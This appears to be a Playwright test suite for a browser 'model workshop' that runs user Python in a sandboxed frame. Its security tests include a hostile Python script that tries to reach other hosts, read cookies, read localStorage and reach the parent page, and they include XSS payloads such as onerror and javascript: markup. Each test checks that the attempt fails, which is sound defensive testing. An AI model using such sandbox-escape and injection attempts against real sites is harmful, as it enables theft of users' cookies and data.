# SPDX-License-Identifier: Apache-2.0
"""The model workshop: Python beside its equation, run where it can do nothing else."""

import base64
import json
import threading
import zlib
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import urlopen

import pytest
from playwright.sync_api import Browser, Locator, Page, Response, expect

from .conftest import LISTEN, Console, Server, eventually, somebody_else, stand_still
from .test_recommend import upload_lab

pytestmark = [pytest.mark.browser, pytest.mark.stores]

LAW = """\
def law(delay_us, slope=2.0, *, xp):
    return {"latency_us": 5 + slope * delay_us}
"""


def link(source: str) -> str:
    """What the page makes of a text: raw deflate in the fragment."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(source.encode()) + packer.flush()
    return f"/workshop#python={base64.urlsafe_b64encode(packed).decode().rstrip('=')}"


def editor(page: Page) -> Locator:
    return page.get_by_role("textbox", name="Python of the model")


def write(page: Page, source: str) -> None:
    editor(page).click()
    page.keyboard.press("Control+a")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(source)


def text_of(page: Page) -> str:
    return "\n".join(editor(page).locator(".cm-line").all_inner_texts())


def run(page: Page) -> None:
    page.get_by_role("button", name="Run", exact=True).click()


def equation(page: Page) -> Locator:
    return page.get_by_role("group", name="Equation of latency_us")


def surface(page: Page) -> bytes:
    return page.locator("canvas").first.screenshot()


def test_a_model_is_drawn_edited_and_run(page: Page) -> None:
    """It stands there at once; what is run replaces it, with its own equation and sliders."""
    page.goto("/workshop")
    expect(page.get_by_role("heading", name="Latency of a frame")).to_be_visible()
    expect(equation(page)).to_contain_text("max")
    stand_still(page)
    before = surface(page)
    slider = page.get_by_role("slider", name="wait_us")
    slider.focus()
    page.keyboard.press("End")
    expect(page.get_by_text("Edited")).to_be_visible()
    eventually(page, lambda: surface(page) != before)
    write(page, LAW)
    expect(page.get_by_text("of the last run")).to_be_visible()
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("heading", name="law", exact=True)).to_be_visible()
    expect(equation(page)).not_to_contain_text("max")
    expect(page.get_by_role("slider", name="slope")).to_be_visible()
    expect(page.get_by_text("of the last run")).to_have_count(0)


@pytest.mark.parametrize(("width_px", "beside"), [(1001, True), (999, False)])
def test_text_and_picture_are_side_by_side_while_both_have_room(
    page: Page, width_px: int, beside: bool
) -> None:
    page.set_viewport_size({"width": width_px, "height": 900})
    page.goto("/workshop")
    text = page.locator(".source").bounding_box()
    picture = page.locator(".outcome").bounding_box()
    assert text is not None
    assert picture is not None
    assert (text["x"] + text["width"] < picture["x"]) is beside
    assert (text["y"] + text["height"] <= picture["y"]) is not beside


def test_a_text_that_is_left_for_another_is_not_in_its_address(page: Page) -> None:
    page.goto("/workshop")
    expect(editor(page)).to_contain_text("def ")
    write(page, LAW)
    page.get_by_label("Start from").select_option("link-bound")
    expect(page.get_by_role("heading", name="Link bound")).to_be_visible()
    stand_still(page)
    assert page.url.endswith("/workshop?model=link-bound")


# A press in the very moment in which Run can be pressed.
PRESS_AT_ONCE = """new MutationObserver((_, watch) => {
  const run = document.querySelector('.workshop .action:enabled');
  if (!run) return;
  watch.disconnect();
  run.click();
}).observe(document, { subtree: true, childList: true, attributes: true });"""


def test_a_press_of_run_is_heard_as_soon_as_it_can_be_made(page: Page) -> None:
    page.add_init_script(PRESS_AT_ONCE)
    page.goto(link(LAW))
    expect(page.get_by_role("heading", name="law", exact=True)).to_be_visible()


def test_a_run_that_is_asked_for_twice_is_not_called_stopped(page: Page) -> None:
    page.goto(link(LAW))
    editor(page).click()
    page.evaluate(LISTEN, "Stopped after")
    page.keyboard.press("Control+Enter")
    page.keyboard.press("Control+Enter")
    expect(page.get_by_role("heading", name="law", exact=True)).to_be_visible()
    assert not page.evaluate("globalThis.heard")


def test_a_model_of_the_catalogue_comes_with_its_source(page: Page) -> None:
    page.goto("/models")
    page.get_by_role("link", name="Open CPU overhead in the workshop").click()
    expect(editor(page)).to_contain_text("alpha * rx_megabytes")
    expect(page.locator(".source > .note")).to_contain_text(
        "coalescope_models/phenomena/cpu_overhead.py"
    )
    page.get_by_label("Start from").select_option("link-bound")
    expect(page.get_by_role("heading", name="Link bound")).to_be_visible()
    page.go_back()
    expect(page.get_by_role("heading", name="CPU overhead")).to_be_visible()


@pytest.mark.parametrize(
    ("source", "line", "said"),
    [
        ("def law(delay_us, *, xp):\n    x = 1 +\n", 2, "SyntaxError"),
        ("import os\n\n\ndef law(a, *, xp):\n    return {'y': xp.sin(a)}\n", 5, "not a listed"),
        ("def law(a, *, xp):\n    if a > 1:\n        return {}\n", 2, "xp.where"),
    ],
)
def test_errors_point_at_the_line(page: Page, source: str, line: int, said: str) -> None:
    page.goto(link(source))
    run(page)
    notice = page.get_by_role("alert")
    expect(notice).to_contain_text(f"Line {line}")
    expect(notice).to_contain_text(said)
    expect(page.locator(".cm-lint-marker-error")).to_have_count(1)
    expect(page.locator(".cm-lintRange-error").first).to_be_visible()
    notice.get_by_role("button", name="Go there").click()
    expect(editor(page)).to_be_focused()


def test_a_fit_to_an_experiment_that_is_not_there_says_so(page: Page, console: Console) -> None:
    console.expected.append("404")
    asked = "experiment=nowhere&response=throughput_mbps&free=link_rate_mbps"
    page.goto(f"/workshop?model=link-bound&{asked}")
    notice = page.get_by_role("alert").filter(has_text="Couldn’t load")
    expect(notice).to_contain_text("There is no experiment 'nowhere'. Choose another.")
    expect(notice).not_to_contain_text("list what there is")


def test_an_error_without_a_place_marks_none(page: Page) -> None:
    page.goto(link("x = 1\n"))
    run(page)
    notice = page.get_by_role("alert")
    expect(notice).to_contain_text("must have one function that takes xp; it has none")
    expect(notice).not_to_contain_text("Line 1")
    expect(notice.get_by_role("button", name="Go there")).to_have_count(0)
    expect(page.locator(".cm-lint-marker-error")).to_have_count(0)


def test_an_endless_loop_is_stopped_and_the_next_run_works(page: Page) -> None:
    page.goto(link("while True:\n    pass\n"))
    run(page)
    expect(page.get_by_role("alert")).to_contain_text("Stopped after 5 seconds")
    write(page, LAW)
    run(page)
    expect(page.get_by_role("heading", name="law", exact=True)).to_be_visible()


class Listener:
    """Another host: it counts who comes."""

    def __init__(self) -> None:
        self.visits: list[str] = []
        visits = self.visits

        class Visited(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"postMessage('loaded')")

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Visited)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def listener() -> Iterator[Listener]:
    other = Listener()
    yield other
    other.server.shutdown()
    other.server.server_close()


HOSTILE = """\
import json
import js

found = {}


def attempt(name, act):
    try:
        found[name] = bool(act())
    except BaseException:
        found[name] = False


def get(url):
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.send()
    return request.status == 200


attempt("control", lambda: js.Math.max(1, 2) == 2)
attempt("eval", lambda: js.eval("1 + 1") == 2)
attempt("api", lambda: get("SERVER/api/experiments"))
attempt("other", lambda: get("OTHER/xhr"))
attempt("import", lambda: js.importScripts("OTHER/script") or True)
attempt("storage", lambda: js.localStorage.setItem("a", "b") or True)
attempt("cookie", lambda: js.document.cookie)
attempt("parent", lambda: js.parent.document)
attempt("origin", lambda: js.origin != "null")
judged = dict(found)
# these answer later, if at all: whoever was asked knows
attempt("fetch", lambda: js.fetch("OTHER/fetch"))
attempt("fetch", lambda: js.fetch("SERVER/api/experiments"))
attempt("socket", lambda: js.WebSocket.new("OTHER/socket".replace("http", "ws")))
attempt("events", lambda: js.EventSource.new("OTHER/events"))
attempt("worker", lambda: js.Worker.new("OTHER/worker"))
attempt("channel", lambda: js.BroadcastChannel.new("coalescope").postMessage("hello"))


def model(delay_us, *, xp):
    return {"latency_us": delay_us}


model.__doc__ = json.dumps(judged)
"""


def test_python_of_a_link_runs_only_when_asked_and_reaches_nothing(
    page: Page, server: Server, listener: Listener, console: Console
) -> None:
    console.expected += ["Content Security Policy", "ERR_", "net::", "Failed to"]
    answered: list[str] = []

    def note(response: Response) -> None:
        answered.append(response.url)

    page.context.on("response", note)
    page.goto("/")
    page.evaluate("localStorage.setItem('secret', '1'); document.cookie = 'secret=1'")
    page.goto(link(HOSTILE.replace("SERVER", server.url).replace("OTHER", listener.url)))
    expect(page.get_by_text("Python is ready")).to_be_visible()
    page.wait_for_timeout(1500)
    expect(page.get_by_text("not run yet")).to_be_visible()
    expect(page.get_by_text("Nothing is drawn yet")).to_be_visible()
    expect(editor(page)).to_contain_text("found = {}")
    assert listener.visits == []
    page.evaluate(
        "() => { globalThis.heard = [];"
        "new BroadcastChannel('coalescope').onmessage = (e) => heard.push(e.data);"
        "addEventListener('message', (e) => heard.push(String(e.data))); }"
    )
    answered.clear()
    run(page)
    title = page.locator(".outcome h2").first
    expect(title).to_contain_text("eval")
    page.wait_for_timeout(500)
    judged = json.loads(title.inner_text())
    assert judged.pop("control")
    assert len(judged) == 8
    assert not any(judged.values()), judged
    assert listener.visits == []
    # the page itself asks its own server; nobody was answered by another
    assert [url for url in answered if not url.startswith((server.url, "blob:", "data:"))] == []
    assert page.evaluate("heard") == []
    assert page.evaluate("localStorage.getItem('a')") is None


def test_that_the_listener_would_have_heard(listener: Listener) -> None:
    with urlopen(f"{listener.url}/control"):
        pass
    assert listener.visits == ["/control"]


def test_the_frame_is_of_an_origin_of_its_own(page: Page, server: Server, console: Console) -> None:
    console.expected += ["Content Security Policy", "Refused", "violates", "Unsafe attempt"]
    page.goto("/workshop")
    expect(page.get_by_text("Python is ready")).to_be_visible()
    frame = next(f for f in page.frames if f.url.endswith("/sandbox.html"))
    tries = {
        "storage": "() => localStorage.length >= 0",
        "cookie": "() => document.cookie.length >= 0",
        "page": "() => parent.document.title.length >= 0",
        "top": "() => { top.location = 'about:blank'; return true; }",
        "api": "() => fetch('/api/experiments').then((r) => r.ok)",
        "elsewhere": "() => fetch('SERVER/api/health', {mode: 'no-cors'}).then(() => true)",
        "picture": "() => new Promise((yes, no) => { const i = new Image(); i.onload = yes;"
        " i.onerror = no; i.src = '/favicon.svg'; })",
    }
    reached = {}
    for name, script in tries.items():
        try:
            reached[name] = frame.evaluate(script.replace("SERVER", server.url))
        except Exception:
            reached[name] = False
    assert not any(reached.values()), reached
    assert frame.evaluate("() => self.origin") == "null"
    assert page.evaluate("document.querySelector('iframe').getAttribute('sandbox')") == (
        "allow-scripts"
    )
    assert page.evaluate("document.querySelector('iframe').contentDocument") is None
    assert page.url.endswith("/workshop")


FORGED = """\
import js
from pyodide.ffi import to_js

document = {
    "format": 1, "title": "<img src=x onerror=hacked=1>", "inputs": [{"name": "a"}],
    "parameters": [], "outputs": [{"name": "y", "unit": "<script>hacked=1</script>"}],
    "graph": {"format": 1, "inputs": ["a"], "nodes": [["input", 0]], "outputs": {"y": 0}},
}
EXTRA
import json
text = json.dumps({"document": document})
js.postMessage(to_js({"kind": "answer", "text": text}, dict_converter=js.Object.fromEntries))
while True:
    pass
"""


@pytest.mark.parametrize(
    ("extra", "read"),
    [
        ("", True),
        ("document['graph']['nodes'] = [['eval', 'hacked=1']]", False),
        ("document['graph']['inputs'] = ['\\\\\\\\href{javascript:hacked=1}{a}']", False),
        ("document['title'] = 'x' * 2_000_000", False),
        ("document = {'toString': 'hacked=1'}", False),
    ],
)
def test_answers_of_the_sandbox_are_a_strangers(page: Page, extra: str, read: bool) -> None:
    """Code there can send what it likes: it is data or it is refused, and markup stays text."""
    page.goto(link(FORGED.replace("EXTRA", extra)))
    run(page)
    if read:
        expect(page.locator(".outcome h2").first).to_have_text("<img src=x onerror=hacked=1>")
    else:
        expect(page.get_by_role("alert")).to_be_visible()
        expect(page.get_by_text("Nothing is drawn yet")).to_be_visible()
    # the worker that loops on has been replaced: the next run works
    write(page, LAW)
    run(page)
    expect(page.get_by_role("heading", name="law", exact=True)).to_be_visible()
    assert page.evaluate("globalThis.hacked") is None


@pytest.mark.parametrize("fragment", ["AAAA", "%3Cscript%3E", "x" * 9000])
def test_a_broken_link_says_so(page: Page, fragment: str) -> None:
    page.goto(f"/workshop#python={fragment}")
    expect(page.get_by_role("alert")).to_contain_text("cannot be read")
    expect(page.get_by_role("heading", name="Latency of a frame")).to_be_visible()


def test_a_fit_by_the_server(page: Page) -> None:
    """The paper's own table: estimates, intervals and residuals; only the graph is sent."""
    page.add_init_script(
        "globalThis.sent = []; const own = fetch; globalThis.fetch = (r, ...rest) => {"
        " if (r.url?.endsWith('nonlinear-fits')) r.clone().text().then((t) => sent.push(t));"
        " return own(r, ...rest); }"
    )
    page.goto("/workshop?model=cpu-overhead")
    page.get_by_role("combobox", name="Experiment").select_option("geist-2005-nfs")
    page.get_by_label("system_cpu is compared with").select_option("system_cpu_jiffies")
    page.get_by_role("button", name="Fit on the server").click()
    table = page.get_by_role("table", name="Estimates with 95 % intervals")
    row = table.get_by_role("row").filter(has_text="alpha")
    expect(row).to_contain_text("0.81")
    expect(row).to_contain_text(" to ")
    residuals = page.get_by_role("table", name="Residuals of the fit")
    expect(residuals.get_by_role("row")).to_have_count(28)
    expect(page.get_by_role("img", name="Cell minus model")).to_be_visible()
    expect(page.locator(".sliders").get_by_text("Fit", exact=True)).to_be_visible()
    [body] = page.evaluate("sent")
    request = json.loads(body)
    assert set(request["model"]) == {"format", "title", "inputs", "parameters", "outputs", "graph"}
    assert "def " not in body
    expect(page.get_by_text("The 27 cells that it was fitted to")).to_be_visible()


def sights(page: Page) -> tuple[bytes, str, list[str]]:
    """The surface, the marks on it, and where the sliders stand."""
    expect(page.get_by_text("The 6 cells that it was fitted to")).to_be_visible()
    page.mouse.move(1, 1)
    stand_still(page)
    cells = page.locator("[data-layer=cells]").inner_html()
    sliders = page.get_by_role("slider").evaluate_all("all => all.map((s) => s.ariaValueText)")
    return surface(page), cells, sliders


def test_a_link_shows_the_fit_the_sliders_and_the_pull(
    page: Page, chromium: Browser, server: Server
) -> None:
    """In a fresh profile too: the same cells beside the same curve."""
    upload_lab(server)
    page.goto("/workshop")
    page.get_by_role("combobox", name="Experiment").select_option("lab")
    page.get_by_label("latency_us is compared with").select_option("throughput_mbps")
    page.get_by_role("checkbox", name="wait_us").uncheck()
    page.get_by_role("button", name="Fit on the server").click()
    expect(page.get_by_text("The 6 cells that it was fitted to")).to_be_visible()
    slider = page.get_by_role("slider", name="wait_us")
    slider.focus()
    page.keyboard.press("End")
    page.get_by_label("Dragging a line adjusts").select_option("wait_us")
    page.wait_for_url("**pull=wait_us*")
    before = sights(page)
    with somebody_else(chromium, color_scheme="light") as fresh:
        other = fresh.new_page()
        other.goto(page.url)
        assert sights(other) == before
        expect(other.get_by_label("Dragging a line adjusts")).to_have_value("wait_us")
        expect(other.get_by_text("Edited")).to_be_visible()
        # the control: another slider is another picture
        other.get_by_role("slider", name="wait_us").press("Home")
        assert sights(other) != before


def test_a_refused_fit_says_what_to_do(page: Page, console: Console) -> None:
    console.expected.append("422")
    page.goto("/workshop")
    page.get_by_role("combobox", name="Experiment").select_option("dillon-2004")
    page.get_by_role("button", name="Fit on the server").click()
    expect(page.locator(".fit .notice").first).to_be_visible()


def test_a_text_goes_through_a_short_link(page: Page, chromium: Browser, server: Server) -> None:
    page.goto("/workshop")
    write(page, LAW)
    page.wait_for_url("**/workshop#python=*")
    stand_still(page)
    page.get_by_role("button", name="More ways to share").click()
    page.get_by_role("menuitem", name="Short link").click()
    short = page.get_by_label("Short link", exact=True).input_value()
    with somebody_else(chromium) as fresh:
        other = fresh.new_page()
        other.goto(short)
        expect(editor(other)).to_contain_text("slope * delay_us")
        expect(other.get_by_text("not run yet")).to_be_visible()
        eventually(other, lambda: text_of(other).strip() == LAW.strip())


def test_without_webassembly_graphs_are_drawn_all_the_same(page: Page, tmp_path: Path) -> None:
    page.goto("/workshop")
    page.get_by_role("button", name="Save the model").click()
    with page.expect_download() as download:
        page.get_by_role("menuitem", name="Traced model").click()
    kept = tmp_path / "model.json"
    download.value.save_as(kept)
    assert json.loads(kept.read_text())["graph"]["format"] == 1
    page.add_init_script("delete globalThis.WebAssembly")
    page.goto("/workshop?model=link-bound")
    expect(page.get_by_text("Python cannot run in this browser")).to_be_visible()
    expect(page.get_by_role("button", name="Run", exact=True)).to_be_disabled()
    expect(page.get_by_role("heading", name="Link bound")).to_be_visible()
    page.get_by_label("File with Python or a traced model").set_input_files(kept)
    expect(page.get_by_role("heading", name="Latency of a frame")).to_be_visible()
    expect(page.get_by_role("slider", name="wait_us")).to_be_visible()


def test_the_workshop_is_framed_by_nobody(server: Server) -> None:
    """Embeds never run Python: no page may hold this one in a frame, nor the sandbox but this."""
    with urlopen(f"{server.url}/workshop") as answer:
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"]
    with urlopen(f"{server.url}/sandbox.html") as answer:
        policy = answer.headers["Content-Security-Policy"]
    assert policy.startswith("sandbox allow-scripts; default-src 'none'")
    assert "frame-ancestors 'self'" in policy
    assert "connect-src" not in policy
